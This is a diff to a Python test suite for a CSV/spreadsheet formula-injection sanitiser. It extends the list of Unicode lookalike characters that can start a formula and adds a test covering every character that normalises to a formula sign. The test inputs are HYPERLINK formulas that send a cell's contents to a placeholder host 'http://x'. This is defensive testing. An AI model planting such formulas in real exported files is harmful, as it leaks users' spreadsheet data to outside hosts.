@@ -99,7 +99,22 @@ def cleaned(text: str) -> str:
 
 # --- formulas ----------------------------------------------------------------------------------------------------------
 
-_STARTS = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212"]
+_STARTS = [
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\r",
+    "\uff1d",
+    "\uff0b",
+    "\uff0d",
+    "\uff20",
+    "\u2212",
+    "\ufe62",
+    "\ufe66",
+    "\ufb29",
+]
 _BEFORE = ["", '"', "'", " ", "\u3000", "\u00a0", "\n", "''", '" ', "\u201c", "\ufeff", "\uff02"]
 FORMULAS = [f'{before}{start}HYPERLINK("http://x/?"&A1)' for before in _BEFORE for start in _STARTS]
 HARMLESS = [
@@ -130,6 +145,16 @@ def test_what_a_spreadsheet_would_take_for_a_formula_is_marked_as_text(text: str
 @pytest.mark.parametrize("text", HARMLESS)
 def test_other_text_is_left_alone(text: str) -> None:
     assert neutral(text) == text == original(text)
+
+
+def test_so_is_whatever_becomes_one_when_widths_and_styles_are_folded() -> None:
+    folded = (
+        chr(n)
+        for n in range(0x110000)
+        if unicodedata.normalize("NFKC", chr(n)).lstrip()[:1] in set("=+-@\u2212")
+    )
+    found = [sign for sign in folded if neutral(f"{sign}1+1") != f"'{sign}1+1"]
+    assert found == []
 
 
 @given(st.text(st.sampled_from("'\"= +-@\t\rab\uff1d"), max_size=8))
